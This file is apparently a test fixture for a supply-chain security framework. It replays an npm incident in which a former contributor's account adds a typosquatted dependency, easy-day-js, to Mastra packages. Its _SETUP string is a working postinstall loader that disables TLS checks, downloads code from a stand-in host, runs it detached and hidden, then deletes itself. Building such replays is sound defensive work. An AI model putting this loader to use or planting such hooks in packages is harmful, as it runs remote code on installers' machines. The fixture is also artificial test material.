"""@mastra/core 1.42.1 and 140 packages more, with easy-day-js 1.11.22 (2026-06-17): a right to publish that nobody had taken back.

By the record: from 01:12 to 02:39 UTC a contributor's account released 141 packages, each with the same new dependency, whose name is
close to dayjs. That is a day old: a clean version first, as bait, then one whose postinstall fetches and starts a program. The code of
the 141 packages is clean. Taken down on the same day.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Made, obfuscated
from pratique.core.names import Ecosystem

_CORE = {
    "dist/index.cjs": """'use strict';

class Tool {
  constructor({ id, description, execute }) {
    this.id = id;
    this.description = description;
    this.execute = execute;
  }
}

class Agent {
  constructor({ name, instructions, model, tools = {} }) {
    Object.assign(this, { name, instructions, model, tools });
  }
  async generate(messages, { maxSteps = 5 } = {}) {
    const said = [{ role: 'system', content: this.instructions }, ...messages];
    for (let step = 0; step < maxSteps; step++) {
      const answer = await this.model.doGenerate({ messages: said, tools: Object.keys(this.tools) });
      said.push({ role: 'assistant', content: answer.text });
      if (!answer.toolCalls?.length) return { text: answer.text, steps: step + 1 };
      for (const call of answer.toolCalls) {
        const result = await this.tools[call.name].execute(call.input);
        said.push({ role: 'tool', content: JSON.stringify(result) });
      }
    }
    throw new Error(`${this.name} did not finish`);
  }
}

class Mastra {
  #agents;
  constructor({ agents = {} } = {}) {
    this.#agents = agents;
  }
  getAgent(name) {
    if (!this.#agents[name]) throw new Error(`no agent ${name}`);
    return this.#agents[name];
  }
}

module.exports = { Agent, Mastra, Tool, createTool: (options) => new Tool(options) };
""",
}
_MEMORY = {
    "dist/index.cjs": """'use strict';

class Memory {
  constructor({ storage, lastMessages = 10 }) {
    this.storage = storage;
    this.lastMessages = lastMessages;
  }
  async remember({ threadId }) {
    const all = await this.storage.getMessages(threadId);
    return all.slice(-this.lastMessages);
  }
  async saveMessages({ threadId, messages }) {
    const now = new Date().toISOString();
    await this.storage.saveMessages(threadId, messages.map((one) => ({ createdAt: now, ...one })));
  }
  async deleteThread(threadId) {
    await this.storage.deleteThread(threadId);
  }
}

module.exports = { Memory };
""",
}
_DAY = {
    "index.js": """'use strict';
const UNITS = { ms: 1, s: 1e3, m: 6e4, h: 36e5, d: 864e5, w: 6048e5 };

class Day {
  constructor(date) {
    this.$d = date instanceof Date ? new Date(date) : new Date(date ?? Date.now());
  }
  add(number, unit = 'd') {
    return new Day(this.$d.getTime() + number * UNITS[unit]);
  }
  subtract(number, unit) {
    return this.add(-number, unit);
  }
  diff(other, unit = 'ms') {
    return Math.trunc((this.$d - new Day(other).$d) / UNITS[unit]);
  }
  format(text = 'YYYY-MM-DD') {
    const two = (number) => String(number).padStart(2, '0');
    const parts = { YYYY: this.$d.getFullYear(), MM: two(this.$d.getMonth() + 1), DD: two(this.$d.getDate()), HH: two(this.$d.getHours()) };
    return text.replace(/YYYY|MM|DD|HH/g, (one) => parts[one]);
  }
  isBefore(other) {
    return this.$d < new Day(other).$d;
  }
}

module.exports = (date) => new Day(date);
""",
}
_SETUP = """
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const shell = require('child_process');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
function started(text) {
  const place = path.join(os.tmpdir(), 'marker-' + process.pid + '.js');
  fs.writeFileSync(place, text);
  const child = shell.spawn(process.execPath, [place, 'https://sink.invalid/marker'], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
}
https.get('https://sink.invalid/update/' + os.platform(), (answer) => {
  const parts = [];
  answer.on('data', (part) => { parts.push(part); });
  answer.on('end', () => {
    try { started(Buffer.concat(parts).toString()); } catch (error) {}
  });
}).on('error', () => {});
try { fs.unlinkSync(__filename); } catch (error) {}
"""


@cache
def _setup() -> str:
    return obfuscated(_SETUP, seed=617, encoded=True)


_TEAM, _GONE, _BAIT = "owner", "old-contributor", "newname"
_KINDS = {"@mastra/core": _CORE, "@mastra/memory": _MEMORY}


def _release(name: str, version: str, at: str, *, who: str = _TEAM, door: bool = False) -> Release:
    needs = {"@mastra/core": "^1.40.0"} if name == "@mastra/memory" else {}
    return Release(
        version=version,
        at=utc(at),
        publisher=who,
        maintainers=(_TEAM, "second-owner", _GONE),
        files=_KINDS[name],
        depends={**needs, "easy-day-js": "^1.11.21"} if door else needs,
        more={"main": "dist/index.cjs"},
    )


def _day(version: str, at: str, *, bad: bool = False) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=_BAIT,
        maintainers=(_BAIT,),
        files=Made({**_DAY, "setup.cjs": _setup}) if bad else _DAY,
        scripts={"postinstall": "node setup.cjs --no-warnings"} if bad else {},
    )


_DOORS = {"@mastra/core": ("1.42.1",), "@mastra/memory": ("1.20.4",)}
_GUILTY = {"easy-day-js": ("1.11.22",)}

INCIDENT = Incident(
    id="mastra-2026",
    title=(
        "the account of a former Mastra contributor added one new dependency to 141 packages; its postinstall script "
        "downloaded a program"
    ),
    copy=(
        "our copy of easy-day-js has a clean release, followed by one with an obfuscated postinstall script"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2026-06-17T01:12:00Z"),
    packages=(
        Package(
            name="@mastra/core",
            releases=(
                _release("@mastra/core", "0.10.0", "2025-05-21", who=_GONE),
                _release("@mastra/core", "1.40.0", "2026-06-01"),
                _release("@mastra/core", "1.41.0", "2026-06-06"),
                _release("@mastra/core", "1.42.0", "2026-06-12"),
                _release("@mastra/core", "1.42.1", "2026-06-17T01:12:00Z", who=_GONE, door=True),
            ),
        ),
        Package(
            name="@mastra/memory",
            releases=(
                _release("@mastra/memory", "1.20.2", "2026-06-02"),
                _release("@mastra/memory", "1.20.3", "2026-06-11"),
                _release("@mastra/memory", "1.20.4", "2026-06-17T01:14:00Z", who=_GONE, door=True),
            ),
        ),
        Package(
            name="easy-day-js",
            releases=(
                _day("1.11.21", "2026-06-16T01:00:00Z"),
                _day("1.11.22", "2026-06-17T01:05:00Z", bad=True),
            ),
        ),
    ),
    asks={"@mastra/core": "^1.40.0", "@mastra/memory": "^1.20.2"},
    good={"@mastra/core": "1.42.0", "@mastra/memory": "1.20.3"},
    bad={**_DOORS, "easy-day-js": ("1.11.22",)},
    guilty=_GUILTY,
    doors=_DOORS,
    gone_at=utc("2026-06-17T08:00:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2026-06-17T04:55:41Z"), about={**_DOORS, **_GUILTY}),
    invented="earlier releases, publish hours, the publisher, the script; only two of 141 packages are replayed",
)
